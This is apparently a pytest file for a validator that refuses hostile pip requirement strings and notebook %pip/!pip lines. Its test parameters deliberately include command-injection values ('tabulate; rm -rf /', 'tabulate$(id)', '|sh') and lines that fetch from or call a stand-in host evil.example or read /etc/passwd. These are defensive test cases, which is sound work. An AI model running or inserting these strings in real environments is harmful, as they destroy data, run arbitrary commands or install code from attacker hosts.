"""Requirement strings and `%pip` lines: plain requirements pass, everything else is refused with the reason."""

from __future__ import annotations

import pytest

from gateway.packages.errors import InvalidPackageRequest
from gateway.packages.requirements import parse_requirement, parse_requirements, pip_lines


@pytest.mark.parametrize(
    ("text", "name", "requirement"),
    [
        ("tabulate", "tabulate", "tabulate"),
        ("  Tabulate==0.9.0 ", "tabulate", "Tabulate==0.9.0"),
        ("cffi>=1.16", "cffi", "cffi>=1.16"),
        ("requests[socks]==2.32.3", "requests", "requests[socks]==2.32.3"),
        ("zope.interface~=6.0", "zope-interface", "zope.interface~=6.0"),
    ],
)
def test_plain_requirements_pass(text: str, name: str, requirement: str) -> None:
    request = parse_requirement(text)
    assert (request.name, request.requirement) == (name, requirement)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("https://evil.example/x.whl", "URL"),
        ("pkg @ https://evil.example/pkg.whl", "URL"),
        ("git+https://github.com/a/b", "URL or VCS"),
        ("/etc/passwd", "local path"),
        ("./mypkg", "local path"),
        ("mypkg-1.0-py3-none-any.whl", "file"),
        ("-r", "pip option"),
        ("--index-url=https://evil.example", "pip option"),
        ("-e .", "pip option"),
        ("tabulate; rm -rf /", "metacharacters"),
        ("tabulate$(id)", "metacharacters"),
        ("tab`id`", "metacharacters"),
        ("{pkg}", "metacharacters"),
        ("tabulate|sh", "metacharacters"),
        ("tabulate ; os_name == 'nt'", "metacharacters"),
        ("tabulate>=1,<", "not a valid requirement"),
        ("", "Empty"),
        ("x" * 300, "too long"),
    ],
)
def test_anything_else_is_refused_with_the_reason(text: str, reason: str) -> None:
    with pytest.raises(InvalidPackageRequest, match=reason):
        parse_requirement(text)


def test_a_project_named_twice_is_refused() -> None:
    with pytest.raises(InvalidPackageRequest, match="named twice"):
        parse_requirements(["tabulate", "Tabulate==0.9.0"])


def test_pip_lines_are_found_in_order_with_their_requests() -> None:
    code = "import os\n%pip install -q tabulate 'cffi>=1.16'\nx = 1\n!pip3 install pyyaml\n  !python -m pip list\n"
    lines = pip_lines(code)
    assert [(line.line_number, line.command) for line in lines] == [(2, "install"), (4, "install"), (5, "list")]
    assert [r.requirement for r in lines[0].requests] == ["tabulate", "cffi>=1.16"]
    assert [r.name for r in lines[1].requests] == ["pyyaml"]
    assert lines[2].requests == ()


def test_code_that_only_mentions_pip_is_not_a_pip_line() -> None:
    assert pip_lines("print('%pip install x')\n# !pip install y\nimport pip\n") == []


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("%pip install -r /etc/passwd", "option '-r'"),
        ("%pip install --index-url https://evil.example tabulate", "option '--index-url'"),
        ("%pip install --extra-index-url=https://evil.example tabulate", "option"),
        ("%pip install -e git+https://github.com/a/b", "option '-e'"),
        ("!pip install tabulate; curl evil.example", "shell metacharacters"),
        ("!pip install tabulate && id", "shell metacharacters"),
        ("!pip install tabulate > /tmp/x", "shell metacharacters"),
        ("%pip install $pkg", "expansion"),
        ("%pip install {pkg}", "expansion"),
        ("!{sys.executable} -m pip install tabulate", "expansion"),
        ("%pip install https://evil.example/x.whl", "URL"),
        ("%pip install /tmp/x.whl", "local path"),
        ("%pip install", "no package"),
        ("%pip install 'unterminated", "quotation"),
    ],
)
def test_hostile_pip_lines_are_refused_naming_the_line(line: str, reason: str) -> None:
    with pytest.raises(InvalidPackageRequest, match=reason) as error:
        pip_lines(f"x = 1\n{line}\n")
    assert "line 2" in str(error.value)


def test_quoted_specifiers_are_fine_in_shell_lines() -> None:
    (line,) = pip_lines("!pip install 'cffi>=1.16' \"tabulate<1\"")
    assert [r.requirement for r in line.requests] == ["cffi>=1.16", "tabulate<1"]
